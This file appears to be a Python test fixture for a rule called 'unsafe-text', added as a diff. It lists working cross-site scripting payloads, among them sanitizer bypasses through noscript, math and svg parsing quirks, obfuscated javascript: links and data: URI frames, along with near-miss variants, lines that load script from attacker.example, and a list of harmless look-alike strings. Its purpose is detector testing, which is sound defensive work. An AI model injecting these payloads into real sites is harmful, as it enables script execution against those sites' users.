@@ -1,0 +1,190 @@
+"""Texts for and against the rule of `unsafe-text`, by what makes them run or not.
+
+The larger collection is brs-kb's (MIT), a package of the tests. Here stands what it has little or nothing of: ways that
+need a page to insert them, ways around parsers and sanitizers, and what looks like a tag and is none.
+"""
+
+import importlib
+import pkgutil
+import warnings
+from functools import cache
+from typing import Any
+
+# Each of these runs its script in a Chromium of 2026 as it stands: what shows that a test of the others would notice.
+RUNNING = {
+    "a handler": "<img src=x onerror=alert(1)>",
+    "a handler without spaces": "<svg/onload=alert(1)>",
+    "a handler in upper case": "<IMG SRC=x OnErRoR=alert(1)>",
+    "a handler after what is none": '<img """ onerror=alert(1)>',
+    "a handler after an equals sign": "<img src=x = onerror=alert(1)>",
+    "a handler of an unknown element": "<anything tabindex=0 onfocus=alert(1)>",
+    "a handler whose code is escaped": "<img src=x onerror='&#97;lert(1)'>",
+    "a handler in a select": "<select><img src=x onerror=alert(1)></select>",
+    "a handler behind a table": "<table><tr><img src=x onerror=alert(1)>",
+    "a handler in foreign content": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "a handler in a foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "a handler of an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "a handler behind a comment": "<!--> <img src=x onerror=alert(1)> -->",
+    "a handler behind a bogus comment": "</ a><img src=x onerror=alert(1)>",
+    "a handler behind a processing instruction": "<? > <img src=x onerror=alert(1)> ?>",
+    "a handler behind a title": "<title><b title='</title><img src=x onerror=alert(1)>'>",
+    "a handler behind a style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "a handler behind a CDATA that is none": "<![CDATA[>]]><img src=x onerror=alert(1)>",
+    "a tag that the page ends": "<img src=x onerror=alert(1) ",
+    "an address that the page ends": "<a href=javascript:alert(1) x",
+    "a link": "<a href=javascript:alert(1)>x</a>",
+    "a link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
+    "a link with a line's end": '<a href="javascript\n:alert(1)">x</a>',
+    "a link with a named tab": "<a href='java&Tab;script&colon;alert(1)'>x</a>",
+    "a link with a named line's end": "<a href=java&NewLine;script:alert(1)>x</a>",
+    "a link behind control characters": "<a href='&#1; &#31;javascript:alert(1)'>x</a>",
+    "a link in decimals": "<a href=&#106&#97&#118;ascript:alert(1)>x</a>",
+    "a link in padded hexadecimals": "<a href='&#x0000006a;&#X61;vascript:alert(1)'>x</a>",
+    "a link in upper case": "<a href=JaVaScRiPt:alert(1)>x</a>",
+    "a link in svg": "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "an older link in svg": "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "an area": "<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>",
+    "a form": "<form action=javascript:alert(1)><button>x</button></form>",
+    "a button": "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "an input": "<form><input type=submit formaction=javascript:alert(1)></form>",
+    "a frame": "<iframe src=javascript:alert(1)></iframe>",
+    "a document in an attribute": "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
+    "an escaped document in an attribute": "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
+    "a document in an address": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
+    "an escaped document in an address": "<iframe src='d&#97;ta:text/htm&#108;,&lt;img onerror=alert(1)>'></iframe>",
+    "a picture that is a document": (
+        "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\">"
+    ),
+    "an embedded document": "<embed src='data:text/html,<script>alert(1)</script>'>",
+    "an object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "an animated link": (
+        "<svg><a><animate attributeName=href values=javascript:alert(1) dur=9s /><text y=20>x</text></a></svg>"
+    ),
+    "a link that is set": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
+    "a sanitizer's victim, noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "a sanitizer's victim, math": (
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"
+    ),
+    "a sanitizer's victim, svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+}
+# These run nothing where they are inserted whole; but they are one step from it.
+REFUSED = {
+    "a script": "<script>alert(1)</script>",
+    "a script from elsewhere": "<script src=//attacker.example/x.js></script>",
+    "a script in svg": "<svg><script>alert(1)</script></svg>",
+    "a script in a template": "<template><script>alert(1)</script></template>",
+    "a script that does not end": "some text <script",
+    "a tag in a CDATA that is none": "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "an attribute that does not end": "<img src=x onerror='alert(1)",
+    "an address that does not end": '<a href="javascript:alert(1)',
+    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "an escaped refresh": "<meta content='0;url=//attacker.example' http-equiv='&#82;efresh'>",
+    "a base": "<base href=//attacker.example/>",
+    "a base that is a script": "<base href='javascript:/a/-alert(1)///////'>",
+    "a body": "<body onload=alert(1)>",
+    "another script language": "<a href='vbscript:msgbox(1)'>x</a>",
+    "a picture's address": "<img src=javascript:alert(1)>",
+    "a second value of an animation": "<svg><animate attributeName=href values='#;javascript:alert(1)'></svg>",
+    "a handler to come": "<b onsomethingnew=alert(1)>",
+    "a handler in a comment": "<!-- <img src=x onerror=alert(1)> -->",
+    "a handler in an attribute": "<p title='<img src=x onerror=alert(1)>'>",
+    "a handler in a text area": "<textarea><img src=x onerror=alert(1)></textarea>",
+    "escaped in a style, a sanitizer's victim": "<math><style>&lt;img src=x onerror=alert(1)&gt;</style></math>",
+    "escaped in an attribute, a sanitizer's victim": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
+    ),
+    "a document of a type that is written otherwise": "<iframe src='data:TEXT/ht\nml,x'>",
+}
+UNSAFE = RUNNING | REFUSED
+
+HARMLESS = [
+    "",
+    "plain text",
+    "a < b",
+    "a<b",
+    "a<b && c>d",
+    "datum.a<datum.b && x>y",
+    "datum['a']<datum.b || datum.only = 1",
+    "price<base && qty>0",
+    "x<y; z = 3",
+    "for (let i=0;i<n;i++) { sum += i }",
+    "if (a<b) click = c",
+    "onclick = a<b",
+    "a <= b, c => d, e <> f, g << 2, h >>> 1",
+    "1<2>3",
+    "<3",
+    "I <3 dashboards </3",
+    "<-- see left",
+    "<>",
+    "< script >alert(1)",
+    "List<String>",
+    "Map<String, List<Script2>>",
+    "std::vector<int>& v = x;",
+    "Promise<Response | null>",
+    "template <typename T = int> class C",
+    "<T extends object = {}>(value: T) => value",
+    "Ada Lovelace <ada@example.com>",
+    "<a@b.c>",
+    "<https://example.com/?a=1&b=2>",
+    "[a link](https://example.com)",
+    "[a link](javascript:alert(1))",
+    "# Title\n\n> quoted\n\n- *one*\n- `a<b`\n\n```html\n<p class=x>\n```\n",
+    "javascript:alert(1)",
+    "onerror=alert(1)",
+    "onclick, onload = handlers",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<b>bold</b>",
+    "<B>bold</B> and <i>more</i><br/>",
+    '<p class="note" style="color: red">text</p>',
+    "<p title='javascript: the good parts'>a book</p>",
+    '<a href="https://example.com/?u=javascript:alert(1)" target=_blank rel=noopener>see</a>',
+    "<a href=/relative>here</a> <a href=#top>top</a> <a href='mailto:a@b.c'>mail</a>",
+    "<a href='data:text/csv;charset=utf-8,a%2Cb' download=t.csv>table</a>",
+    "<img src=https://example.com/a.png alt='onerror=alert(1)'>",
+    "<img src='data:image/png;base64,iVBORw0KGgo='>",
+    "<img src='data:image/svg+xml,%3Csvg/%3E' alt=icon>",
+    "<svg viewBox='0 0 9 9'><path d='M0 0L9 9'/><circle r=3 /></svg>",
+    "<math><mi>x</mi><mo>=</mo><mn>1</mn></math>",
+    "<iframe src=https://www.example.com/embed/1 title=video></iframe>",
+    "<details open><summary>more</summary>text</details>",
+    "<table border=1><tr><td colspan=2>cell</td></tr></table>",
+    "<input type=checkbox checked disabled> done",
+    "<button onclick>does nothing</button>",
+    "<button onclick=''>does nothing</button>",
+    "<button on:click={save}>a component's</button>",
+    "<item once='true' online=1 only=x one=1>XML</item>",
+    "<?xml version='1.0'?><order id='1'><onhand>5</onhand><line sku=\"a\" qty='2'/></order>",
+    "<!-- a comment --><!DOCTYPE html><![CDATA[ x = 1 ]]>",
+    "<meta charset=utf-8><meta http-equiv='Content-Type' content='text/html'>",
+    "<base> and <base target=_top>",
+    "</script></svg></math onload=1>",
+    "<scripts src=x>",
+    "<script-runner name=x>",
+    "<prescript>",
+    "＜script＞ｏｎｅｒｒｏｒ=1",  # noqa: RUF001 - the wide letters are the point
+    "😀 <😀 onerror=1>",
+    "é — 売上 🎉 </b>",
+    "\t<b\n>",
+    "SELECT * FROM t WHERE a<b AND c = 'd' OR e>f",
+    "{{ value }} <%= value %> ${value}",
+    "C:\\<dir>\\file = x",
+]
+
+
+@cache
+def collection() -> list[str]:
+    """The texts of brs-kb's payloads, a third of which have no tag at all."""
+    found: set[str] = set()
+    with warnings.catch_warnings(action="ignore", category=DeprecationWarning):
+        payloads = importlib.import_module("brs_kb.payloads")
+        for module in pkgutil.walk_packages(payloads.__path__, "brs_kb.payloads."):
+            for value in vars(importlib.import_module(module.name)).values():
+                found.update(_texts(value))
+    return sorted(found)
+
+
+def _texts(value: Any) -> set[str]:
+    if type(value).__name__ == "PayloadEntry":
+        return {value.payload}
+    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list | tuple) else ()
+    return {text for each in inner for text in _texts(each)}
